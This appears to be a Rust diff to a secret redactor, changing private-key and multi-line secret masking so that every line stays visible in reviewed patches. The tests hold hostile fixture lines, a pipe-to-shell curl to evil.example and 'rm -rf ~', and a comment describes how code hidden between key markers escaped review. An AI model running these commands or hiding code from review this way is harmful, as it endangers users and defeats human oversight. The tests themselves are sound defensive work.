@@ -120,7 +120,10 @@ impl Redactor {
     }
 }
 
-/// `text` with each of `spans` replaced by [`MASK`]; spans that overlap become one mask.
+/// `text` with each of `spans` replaced by [`MASK`]; spans that overlap become one mask. A span
+/// over several lines (a multi-line value) is masked line by line, its newlines kept: a
+/// redacted text has every line of the original, so a redacted patch still shows each line
+/// that would land, and redaction never swallows the lines around a secret.
 fn mask(text: &str, mut spans: Vec<Range<usize>>) -> String {
     spans.sort_by_key(|s| s.start);
     let mut out = String::with_capacity(text.len());
@@ -132,11 +135,23 @@ fn mask(text: &str, mut spans: Vec<Range<usize>>) -> String {
             continue;
         }
         out.push_str(&text[done..span.start]);
-        out.push_str(MASK);
+        push_masked(&mut out, &text[span.clone()]);
         done = span.end;
     }
     out.push_str(&text[done..]);
     out
+}
+
+/// [`MASK`] for each line of `secret` that has text, with its newlines between.
+fn push_masked(out: &mut String, secret: &str) {
+    for (i, line) in secret.split('\n').enumerate() {
+        if i > 0 {
+            out.push('\n');
+        }
+        if !line.is_empty() {
+            out.push_str(MASK);
+        }
+    }
 }
 
 /// A value, and its form inside a JSON string when that differs (a value with a quote,
@@ -286,10 +301,50 @@ mod tests {
     }
 
     #[test]
-    fn private_key_blocks_are_masked_whole() {
+    fn a_private_key_block_has_its_key_lines_masked_and_its_markers_kept() {
         let r = Redactor::new(Vec::new());
-        let text = "before\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\nAAAA\n-----END OPENSSH PRIVATE KEY-----\nafter";
-        assert_eq!(r.redact(text), format!("before\n{MASK}\nafter"));
+        let text = "before\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\nAAAAEbm9u==\n-----END OPENSSH PRIVATE KEY-----\nafter";
+        assert_eq!(
+            r.redact(text),
+            format!("before\n-----BEGIN OPENSSH PRIVATE KEY-----\n{MASK}\n{MASK}\n-----END OPENSSH PRIVATE KEY-----\nafter")
+        );
+    }
+
+    /// Class 4 of the security issue: the rule masked BEGIN to END whole, so code a worker put
+    /// between the markers was hidden from `show --patch` and the review package.
+    #[test]
+    fn code_between_private_key_markers_in_a_patch_stays_visible() {
+        let r = Redactor::new(Vec::new());
+        let key_line = "MIIEowIBAAKCAQEA1xQ9kZp3vN7bR2mT8cW4yL6hJ0sD5fG1aE3uK9oP2iX7nB4";
+        let patch = format!(
+            "diff --git a/id_rsa b/id_rsa\n+-----BEGIN RSA PRIVATE KEY-----\n+{key_line}\n+import os; os.system(\"curl https://evil.example | sh\")\n+exit\n+Zm9vYmFy/+Q==\n+-----END RSA PRIVATE KEY-----\n context\n"
+        );
+        let shown = r.redact(&patch);
+        assert_eq!(
+            shown,
+            format!("diff --git a/id_rsa b/id_rsa\n+-----BEGIN RSA PRIVATE KEY-----\n+{MASK}\n+import os; os.system(\"curl https://evil.example | sh\")\n+exit\n+{MASK}\n+-----END RSA PRIVATE KEY-----\n context\n")
+        );
+        assert_eq!(shown.lines().count(), patch.lines().count());
+    }
+
+    #[test]
+    fn a_key_block_in_a_json_event_line_is_masked_line_by_line() {
+        let r = Redactor::new(Vec::new());
+        let key_line = "MIIEowIBAAKCAQEA1xQ9kZp3vN7bR2mT8cW4yL6hJ0sD5fG1aE3uK9oP2iX7nB4";
+        let file = format!(
+            "-----BEGIN PRIVATE KEY-----\n{key_line}\nrm -rf ~\n-----END PRIVATE KEY-----\n"
+        );
+        let line = serde_json::json!({ "text": file }).to_string();
+        let out = r.redact(&line);
+        assert!(!out.contains(key_line), "{out}");
+        assert!(out.contains("rm -rf ~"), "{out}");
+    }
+
+    #[test]
+    fn a_multi_line_value_is_masked_line_by_line_and_keeps_every_line() {
+        let r = Redactor::new(vec!["first-secret-line\nsecond-secret-line".into()]);
+        let out = r.redact("a\nfirst-secret-line\nsecond-secret-line\nb");
+        assert_eq!(out, format!("a\n{MASK}\n{MASK}\nb"));
     }
 
     /// The values `secret_values` takes from `file` redact `text` to `want`.
